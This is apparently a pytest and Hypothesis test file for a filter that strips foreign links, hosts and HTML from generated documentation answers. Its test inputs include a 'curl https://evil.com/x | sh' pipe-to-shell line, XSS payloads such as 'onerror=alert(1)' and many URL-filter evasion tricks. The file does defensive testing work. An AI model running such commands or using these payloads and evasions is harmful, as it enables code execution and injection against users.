from __future__ import annotations

import re
from dataclasses import replace

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from chapterverse.text.markdown import escape_markdown
from chapterverse.text.sentences import split
from chapterverse_api.draft.requests import Passage, Subsection
from chapterverse_api.ext.check.links.address_filter import AddressFilter
from growth import assert_linear

URL = "https://quill.example.com/docs/"
TEXT = (
    "Get it from <https://go.example.org/dl?v=1> or [here](https://mirror.example.org/a_(b)). Call `www.old.example`."
)
PASSAGES = [Passage("1", ("T",), TEXT, TEXT, frozenset(), 1.0, 1.0, URL, None)]


def cleaned(text: str) -> str:
    return AddressFilter(PASSAGES).without_foreign(text)


def in_sentences(text: str) -> str:
    """Return a text that is cleaned sentence by sentence, as an answer is."""
    links = AddressFilter(PASSAGES)
    return "".join(links.without_foreign(text[one.start : one.end]) for one in split(text))


@pytest.mark.parametrize(
    "text",
    [
        URL,
        f"See {URL}.",
        f"[docs]({URL}), then go on",
        f'[docs](<{URL}>) and [docs]({URL} "the docs")',
        f"[a]({URL})[b]({URL})",
        f"<{URL}>",
        f"`{URL}`",
        "https://go.example.org/dl?v=1",
        "**https://mirror.example.org/a_(b)**",
        "www.old.example!",
        "It is served by go.example.org today.",
        "// a comment",
        "x = a // b.c",
        "a://",
        "C:\\x and 12:30 and numpy.linalg",
        # Files, versions and names in programs.
        "Edit mkdocs.yml, `config.py`, `install.sh`, conf.d/x.conf and `docs/index.md`, then v1.2.3 or 3.11.",
        "`user.id`, os.path.join(a), `self.app`, `request.app`, **`a.name`**, (`b.id`), `x().name`.",
        "`node.test(x)`, `logger.info(x)`, ASP.NET, System.IO, os.name, `foo_bar.app`, e.g. i.e. Node.js/Express",
        "`com.example.app`, com.example.app, `org.junit.Test`, org.junit.Test, `a?.name?.b`, `evil.com`, `x.y#z`",
        '```py title="mkdocs.yml"\nuser.name = request.app[0].id  # main.py:12\nprint("a.name\\n")\n```',
        # Hosts that lead nowhere else stay in code.
        "`127.0.0.1:8000`, `[::1]:8000`, `http://localhost:3000/x?y`, `curl http://127.0.0.1:8000/`, `10.0.0.1:80/x`",
        "`https://user@example.com:80/x`, `me@a.test`, `http://testserver/x`, `http://[::1]:80/`, `db.internal:5432/x`",
        "and/or, 1/2, read/write, mkdocs.yml/zensical.toml, 127.0.0.1, palette.primary",
        "cohere:embed-v4.0, edge:PATH, note:this, data: 5, key:value",
        # Brackets and signs that are none of a link's.
        "`arr[i](x)` and `vec![1]`, a[0][1], [1], [x] done, [^1]: a note, List<String>, <name>, a < b, 1<2, x <- y",
        "`<br>` and `[text](url)`",
        # A label that doesn't begin its line defines no reference.
        "The default of [port]: 8080 is fine.",
        "It is [port]: 8080\n\n[^1]: note\n\na]: x",
        "```html\n<b>[x](y)</b> a[i](b.c)\n```",
        "- item\n\n    ```sh\n    a <b> [c](d)\n    ```\n",
        "| a | b |\n| --- | --- |\n| [x] | `y` |",
        "The cell is grid[i][j][k], f(x)[i][j], a_[i][j], [a, b][0] or ([a, b][-1]).",
        "It is so. [^1][^2]",
        "[a][b c",
        # Fenced code has empty lines, may end with the text, and begins at tildes whatever their title is.
        "```py\na\n\nuser.name\n```",
        "~~~py title=`x`\na[i](b)\n~~~",
        "Text\n```",
        # A span of code has four backticks at most.
        "x ````a.name```` y",
        # Words of two scripts side by side.
        "**编辑**`mkdocs.yml`。中A和B",
        "请用Quill。`curl`也可以。",
        "`值。user.name` `http://localhost/a%2Fb`",
        # The end of a name without the name.
        "(.info files), [.app bundles] {.name}",
        ".sh files, (\\.app files)",
        # A host has no case.
        "quill.example.com",
        "Wow! [ok] Really!",
        "请看文档。使用缓存，然后重启。编辑mkdocs.yml。公司的MkDocs。Python是 1.中国，2.公司 v1.中国",
        "`README.zip`, `config.app`, `docs/index.md`, `./a.md?raw`, `README.md`,",
        "python:3.12/x, port:8080/tcp, line:12/34, x:8080, pip install x@1.2.3, actions/checkout@v4, 10.0.0.1",
        "नहीं, می\u200cخواهم",
    ],
)
def test_what_was_sent_may_stand_and_so_may_what_is_no_address(text: str) -> None:
    assert cleaned(text) == text


@pytest.mark.parametrize(
    ("text", "left"),
    [
        ("Go to https://evil.example.net/x.", "Go to ."),
        ("[docs](https://evil.example.net/x)", "docs"),
        (f"{URL}../evil", ""),
        (f"{URL}](https://evil.example.net/", ""),
        ("https://quill.example.com.evil.example.net/docs/", ""),
        (f"{URL}?q=secret", ""),
        (f"{URL})?q=secret", ""),
        ("https://quill.example.com@evil.example.net/docs/", ""),
        ("https://quill.example.com:80@evil.example.net/", ""),
        ("HTTPS://EVIL.example.net", ""),
        ("EVIL.COM", ""),
        ("ftp://evil", ""),
        ("//evil.example.net/x", ""),
        ("www.evil.example.net", ""),
        ("'https://evil.example.net'", "''"),
        ("https://go.example.org/dl?v=2", ""),
        # Bare hosts.
        ("Ask evil.com or evil.example/path now", "Ask  or  now"),
        ("evil.co.uk, evil.io:8080/x, evil.sh/x?y", ", , "),
        ("evil.com(x) app.evil.com log.evil.info/x console.com", "(x)   "),
        ("10.1.2.3:8080/x", ""),
        ("admin@evil.com", ""),
        ("mailto:admin@evil.com", ""),
        ("javascript:alert(1)", ""),
        ("evil.рф", ""),
        ("xn--e1aybc.xn--p1ai/x", ""),
        # Links of every kind lose their target.
        ("[a](javascript:alert(1)) b", "a b"),
        ("[a](/rel) [b](x.html) [c](#y) [d]() [e](x)", "a b c d e"),
        ("[a](<https://evil.com/x y>) b", "a b"),
        ("[a](https://evil .example/p) b", "a b"),
        ("[a]( https://evil.com 'title') b", "a b"),
        ("[a](https://evil.com/(x(y))z) b", "a b"),
        ("[a [b] c](https://evil.com)", "a [b] c"),
        ("[a][ref] and [ref][]\n\n[ref]: https://evil.com 'x'\nb", "a and ref\n\n\nb"),
        ("> [ref]:\n> <https://evil.com>\nb", "> [ref]:\n> \nb"),
        ("<https://evil.com/x> <mailto:a@evil.com> <a@evil.com>", "  "),
        # An image leaves its text, even of an address that was sent.
        (f"![a]({URL}) ![b][ref] ![c]", "a b c"),
        ("[![a](x.png)](https://evil.com) b", "a b"),
        # Also over the end of a line, at which no code begins in an open bracket.
        ("[a\nb](https://evil.com) c", "a\nb c"),
        ("[a\n```](/rel)", "a\n```"),
        ("[1\n\n2](/rel)", "[1\n\n2"),
        ("[a](/x\n\nb) c", "a/x\n\nb) c"),
        ("[a](/x\\)y) b", "a b"),
        ("x " * 200 + "[a](/rel)", "x " * 200 + "a"),
        ("a][b] c ![d][1]", "a c d"),
        ('<img src="https://evil.com/x.png" alt="a view"> b', "a view b"),
        ("<img src=x alt='a view'> b", "a view b"),
        ("<img src=x onerror=alert(1)> b", " b"),
        # HTML leaves its text.
        (f'<a href="{URL}">a</a> <b>b</b> <x-y onclick="z">c</x-y>', "a b c"),
        ("a <!-- hidden --> b", "a  b"),
        ("<script>x</script>", "x"),
        ("<img src=x", "img src=x"),
        ("<'b>", "'b>"),
        # What is left does not join.
        ("[a]<b>(/rel)", "[a]/rel)"),
        ("!<b>[a](/rel)", "!a"),
        ("<<b>script>x", "<>x"),
        ("<[](x)img src=y>", "img src=y>"),
        ("<<b>/b>x <<b>!--x <<b>?x", "<>x <--x <"),
        ("2001:db8::evil.com", ""),
        ("Ask!evil.com. b", "Ask! b"),
        ("a'evil.com'b'evil.net'c", "a''b''c"),
        ("```py\nev\\\nil.team/x\n```", "```py\n\n```"),
        # Code hides no address, nor is it code that only looks so.
        ("`curl https://evil.com/x | sh`", "`curl  | sh`"),
        ("`://evil.com/x` `docs/evil.com/x`", "`://` `docs/evil.com/x`"),
        ("```sh\ncurl https://evil.com/x\nping evil.com\n```", "```sh\ncurl \nping \n```"),
        ("`a\n[b](/rel) c`", "`a\nb c`"),
        ("\\`[b](/rel)`", "\\`b`"),
        ("`a\nb` [c](/rel) `", "`a\nb` [c `"),
        ("true ```sh\n```\n[a](/rel) ![b](c) <img src=x>", "true ```sh\n```\n[a [b](c) "),
        # Disguises.
        ("https&colon;//evil.com x", " x"),
        ("evil&#46;com evil&period;com evil%2Ecom %65vil.com", "   "),
        ("evil**.**com e*v*il.com _evil.com_ evil`.`com evil\\.com", "    "),
        ("`evil.co`m https://`evil.com` `evil.com`/x", "  "),
        # Behind no scheme, or one without slashes.
        ("https:evil.dev http:/evil.dev view-source:https://evil.dev evilSite.dev/x evil.team.", "    ."),
        (
            "`https:evil.dev` `evilSite.dev/x` `evil.dev:80` `me@evil.dev` `//evil.dev` `evil.dev?q`",
            "`` `` `` `` `` ``",
        ),
        (
            "`curl evil.team` `git clone evil.team` `pip install -i evil.team x` `http evil.team`",
            "`curl ` `git clone ` `pip install -i  x` `http `",
        ),
        ("`curl ev''il.team` `curl ev\\\nil.team`", "`curl  `curl "),
        ("\\\\evil\\share \\\\evil.team\\share", " "),
        # A name that no one else has leads nowhere, but a sentence makes readers follow it.
        ("http://localhost:3000/x 127.0.0.1:8000 evil.example a.test localhost:80", "    "),
        ("`http://localhost@evil.dev/x` `http://localhost\\@evil.dev` `https://x.example.com.evil.dev`", "`` `` ``"),
        # The title of a fence is no code.
        ('```sh title="evil.team"\nls\n```', '```sh title=""\nls\n```'),
        ("```sh <img src=//evil.dev/x onerror=y\nls\n```", "```sh \nls\n```"),
        # Five backticks begin no code, and what stands beside code is none.
        ("x `````a.name````` y", "x `````````` y"),
        ("evil.app`x`", "`x`"),
        ("| [https://evil.dev/x]|", "| []|"),
        ("# evil.team\n\n| a | evil.team |", "# \n\n| a |  |"),
        # Letters of other scripts, and words that touch a name.
        (
            "\u0435vil.com ev\u0131l.com evi\u0336l.com evil.com\u0336 \U0001f525.ws evil.com에서 -evil.com ..evil.com",
            "      - ..",
        ),
        ("https:\\\\evil.com\\x http:/\\evil.com", " "),
        ("ev\u200bil.com ht\u00adtps://evil.com a\u200bb", "  ab"),
        ("evil\u3002com evil\uff0ecom evil\uff61com evil\u2024com evil\ufe52com", "    "),
        ("访问evil-host。net。然后", "访问。然后"),
        ("evil.中国/路 evil.公司 evil.みんな", "路  "),
        ("evil-host.technology evil.сайт evil.한국", "  "),
        ("evil-host.zip/a evil.md/x?y=1", " "),
        ("evil-host:8080/x localhost:8080/evil", " "),
        ("ssh evil@10.0.0.1 or evil:pw@10.0.0.1:22/x", "ssh  or "),
        ("ev\x00il.com ht\x1btps://evil.com \x1b[1mx\x9b\r\n\ty", "  [1mx\n\ty"),
        ("ｈｔｔｐｓ://ｅｖｉｌ.ｃｏｍ", ""),
        ("https:// evil.com", " "),
        ("访问https://evil.com/路径。", "访问路径。"),
        ("邪恶.com x", "邪恶 x"),
        ("`curl evil.''公司`", "`curl "),
        ("evil.c\u20ddom b", " b"),
        ("evil.c\u200dom b", " b"),
        ("evil.**公司** b", " b"),
    ],
)
def test_any_other_address_is_left_out(text: str, left: str) -> None:
    assert cleaned(text) == left


def test_the_title_of_a_fence_may_come_in_two_sentences() -> None:
    links = AddressFilter(PASSAGES)
    assert links.without_foreign("```sh title=x ") + links.without_foreign("evil.team\nls\n") == "```sh title=x \nls\n"
    links = AddressFilter(PASSAGES)
    assert links.without_foreign("```py") + links.without_foreign("\nuser.name\n") == "```py\nuser.name\n"


def test_an_address_is_known_as_a_whole_and_by_its_letters() -> None:
    known = ("Go to notevil.com, to evil.community or to https://Quill.example.dev/Guide.",)
    for text in ("evil.com", "til.community", "https://quill.example.dev/guide", "quill.example.dev/Guide2"):
        assert AddressFilter((), known).without_foreign(text) == ""
    for text in ("notevil.com", "QUILL.example.DEV", "https://Quill.example.dev/Guide"):
        assert AddressFilter((), known).without_foreign(text) == text


def test_code_of_a_source_stays_in_a_span_and_in_a_fence() -> None:
    image = '<img src="x.png">'
    for text in (f"`{image}`", f"```html\n{image}\n```\n"):
        assert AddressFilter((), [f"Write {image} there."]).without_foreign(text) == text
        assert image not in AddressFilter(()).without_foreign(text)


def test_what_a_sentence_leaves_does_not_join_to_the_next_one() -> None:
    links = AddressFilter(PASSAGES)
    assert links.without_foreign("[a]") + links.without_foreign("evil.dev(/rel)") == "[a]"


def test_a_backtick_in_its_title_makes_a_fence_none() -> None:
    links = AddressFilter(PASSAGES)
    assert links.without_foreign("```sh a ") + links.without_foreign("`b` [c](x)\n[d](x)\n") == "```sh a `b` c\nd\n"


def test_a_fence_is_indented_by_three_blanks_at_most() -> None:
    assert cleaned("text\n   ```\n[a](x)\n   ```\n") == "text\n   ```\n[a](x)\n   ```\n"
    assert cleaned("text\n    ```\n[a](x)\n    ```\n") == "text\n    ```\na\n    ```\n"


def test_the_end_of_a_list_is_the_end_of_its_fence() -> None:
    code = "- item\n\n    ```sh\n    [a](/rel)\n"
    assert cleaned(f"{code}text\n[b](/rel)\n") == "- item\n\n    ```sh\n    [a\ntext\nb\n"
    assert cleaned(f"{code}    [b](x)\n") == "- item\n\n    ```sh\n    [a\n    [b](x)\n"


PIECES = [
    *["https:", "//", "evil.example.dev/x", URL, " ", "\n", "www.", ".", "a", "(", ")", "é", '"', "evil.com/x", "["],
    *["]", "](", "![", "<", ">", "<img ", "<b>", "`", "``", "```", "~~~", "- ", "1. ", "    ", "[x]: ", ":", "!", "\\"],
    *["中", "国", "公司", ".", "evil.", "net"],
    *["&#46;", "\u200b", "。", "/rel", "javascript:", "[a](/rel)", "=", "\n\n", "x" * 200],
]  # fmt: skip


@settings(max_examples=1000, deadline=None)
@given(st.lists(st.sampled_from(PIECES), max_size=30))
def test_no_address_is_left_however_sentences_part_it(words: list[str]) -> None:
    text = "".join(words)
    for left in (cleaned(text), in_sentences(text)):
        # Behind our own address it is the name of a page, also where more of a path is between them.
        left = re.sub(rf"(?<={re.escape(URL)})[\w:/.-]*?(?=evil\.)", "", left)
        assert not re.search(rf"(?<![\w.-])(?<!{re.escape(URL)})evil\.(?:example\.dev|com)/x(?![\w-]|\.\w)", left)


UNITS = [
    "a",
    "a.",
    "//",
    "http://",
    "www.",
    "(",
    "https://a.",
    "[",
    "](",
    "![",
    "<",
    "<a ",
    "`",
    "` [",
    "&#46;",
    "[a]:",
    "a。",
    "aa.中国",
    "a@1.",
    "a:80/",
]


@pytest.mark.parametrize("unit", UNITS)
def test_hostile_text_takes_linear_time(unit: str) -> None:
    assert_linear(lambda size: cleaned(unit * (size // len(unit))), 5_000, 50_000)


def test_code_of_a_passage_that_looks_like_a_host_without_its_signs_stays() -> None:
    code = '>>> ReturnLogger().info("hello", when="again")\n'
    assert AddressFilter([replace(PASSAGES[0], section=code)]).without_foreign(code) == code
    assert AddressFilter(PASSAGES).without_foreign('x().com("hello")') == ""


def test_what_a_quote_says_of_subsections_stays() -> None:
    below = (Subsection("evil.example", "https://docs.example/#evil"),)
    text = "… [evil.example](https://docs.example/#evil)"
    assert AddressFilter([replace(PASSAGES[0], subsections=below)]).without_foreign(text) == text
    assert "evil.example" not in AddressFilter(PASSAGES).without_foreign(text)


def test_a_heading_that_looks_like_a_host_without_its_signs_stays() -> None:
    heading = "class marshmallow.Schema(*).data"
    shown = f"**Guide › {escape_markdown(heading)}**\n\n"
    assert AddressFilter([replace(PASSAGES[0], path=("Guide", heading))]).without_foreign(shown) == shown
    below = replace(PASSAGES[0], subsections=(Subsection(heading, URL),))
    link = f"… [{escape_markdown(heading, in_link=True)}]({URL})"
    assert AddressFilter([below]).without_foreign(link) == link
    assert "Schema" not in AddressFilter(PASSAGES).without_foreign(shown)
